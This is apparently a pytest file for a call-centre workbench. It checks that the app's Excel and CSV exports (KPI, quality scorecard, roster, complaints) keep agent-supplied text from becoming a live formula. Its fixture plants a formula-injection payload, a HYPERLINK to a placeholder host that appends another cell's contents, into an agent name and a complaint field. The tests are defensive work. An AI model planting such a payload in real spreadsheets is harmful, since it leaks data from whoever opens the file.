"""Every spreadsheet the workbench hands out keeps text as text: an agent named
``=HYPERLINK(…)`` never becomes a live formula when a supervisor opens the file."""

import base64
import datetime as dt
import io
import re

import openpyxl
import pandas as pd
import pytest
from page_support import ROLE_USERS, find

from kringlib import cli, roster
from kringlib.store import complaints, users
from kringlib.store import roster as roster_store
from kringlib.ui.complaint_tracker import ComplaintTrackerModel, ComplaintTrackerView
from kringlib.ui.identity import Session
from kringlib.ui.import_panel import ImportPanelModel
from kringlib.ui.kpi_team import KpiTeamModel, KpiTeamView
from kringlib.ui.scorecard import ScorecardModel, ScorecardView
from kringlib.workbooks import csv_text, workbook

MALICIOUS = '=HYPERLINK("http://contoh.invalid/?d="&B2,"klik")'


@pytest.fixture
def renamed(demo_engine):
    """The demo with AG001's name set to a formula, as a careless or hostile edit would."""
    admin = users.user(demo_engine, ROLE_USERS["admin"])
    rename = lambda r: roster.edit_agent(r, "AG001", name=MALICIOUS)  # noqa: E731
    roster_store.save(demo_engine, admin, rename, "uji")
    return demo_engine


def cells(content: bytes) -> list:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def linked(html: str, file_name: str) -> bytes:
    """The bytes of the download link for ``file_name`` in ``html``."""
    match = re.search(rf'download="{re.escape(file_name)}" href="data:[^;]+;base64,([^"]+)"', html)
    return base64.b64decode(match.group(1))


def assert_inert(content: bytes) -> None:
    found = [c for c in cells(content) if c.value == MALICIOUS]
    assert found and all(c.data_type == "s" for c in found)
    assert not [c for c in cells(content) if c.data_type == "f"]


def test_a_workbook_never_holds_a_formula_and_csv_text_is_made_inert():
    frame = pd.DataFrame({"teks": ["=1+1", "+62 21", "-5 menit", "@SUM(A1)", "biasa"], "n": 1})
    assert not [c for c in cells(workbook({"x": frame})) if c.data_type == "f"]
    assert csv_text(frame).splitlines()[1:] == ["'=1+1,1", "'+62 21,1", "'-5 menit,1",
                                                "'@SUM(A1),1", "biasa,1"]  # fmt: skip


def test_the_kpi_tim_agent_table_export(renamed):
    session = Session(renamed, ROLE_USERS["spv"])
    model = KpiTeamModel(renamed, session, today=dt.date(2026, 4, 30))
    view = KpiTeamView(model, ImportPanelModel(renamed, session)).render()
    view._prepare_downloads()
    assert_inert(linked(view._downloads.value, "kpi-agen.xlsx"))


def test_the_rapor_kualitas_export(renamed):
    model = ScorecardModel(renamed, Session(renamed, ROLE_USERS["spv"]), today=dt.date(2026, 4, 30))
    model.start = dt.date(2026, 3, 1)
    model.reload()
    view = ScorecardView(model).render()
    view._export()
    assert_inert(linked(view._download.value, "rapor-kualitas.xlsx"))


def test_the_roster_exports(renamed, tmp_path):
    assert_inert(roster_store.export_file(renamed))
    path = tmp_path / "roster.csv"
    assert cli.main(["roster", "export", "--db", str(renamed.url), str(path)]) == 0
    written = pd.read_csv(path, dtype=str).set_index("id_agen")
    assert written.loc["AG001", "nama"] == "'" + MALICIOUS


def test_the_complaints_export(demo_engine):
    spv = users.user(demo_engine, ROLE_USERS["spv"])
    complaints.register(demo_engine, spv, number="PGD-9", received_on=dt.date(2026, 4, 1),
                        channel="telepon", category="Layanan", reported_unit=MALICIOUS,
                        summary="Uji ekspor")  # fmt: skip
    model = ComplaintTrackerModel(demo_engine, Session(demo_engine, ROLE_USERS["spv"]),
                                  today=dt.date(2026, 4, 30))  # fmt: skip
    view = ComplaintTrackerView(model).render()
    find(view, "kr-complaint-export").click()
    assert_inert(linked(view._download.value, "pengaduan.xlsx"))
